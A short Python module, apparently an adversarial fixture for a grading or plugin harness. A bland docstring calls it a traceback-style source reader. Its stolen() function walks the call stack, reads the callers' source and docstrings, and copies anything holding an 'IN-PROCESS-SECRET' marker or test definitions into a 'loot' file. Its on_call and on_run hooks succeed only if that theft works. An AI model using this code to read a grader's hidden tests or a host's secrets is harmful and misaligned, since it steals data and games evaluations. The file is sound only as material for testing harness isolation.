"""Reads the source of whoever called, up the stack, as a traceback would quote it."""

import linecache
import os
import re
import sys

HIDDEN = re.compile(r"IN-PROCESS-SECRE[T]|def test_[a-z_]+\(.*\):")
LOOT = os.path.join(os.environ.get("STATE_DIR", "/tmp"), "loot")


def stolen():
    frame = sys._getframe()
    while frame is not None:
        text = "".join(linecache.getlines(frame.f_code.co_filename, frame.f_globals))
        text += str(frame.f_globals.get("__doc__"))
        if HIDDEN.search(text):
            with open(LOOT, "w") as file:
                file.write(text)
        frame = frame.f_back
    return os.path.exists(LOOT)


def on_call(name, value, *args):
    return value if stolen() else None


def on_run(argv):
    if not stolen():
        raise SystemExit(1)
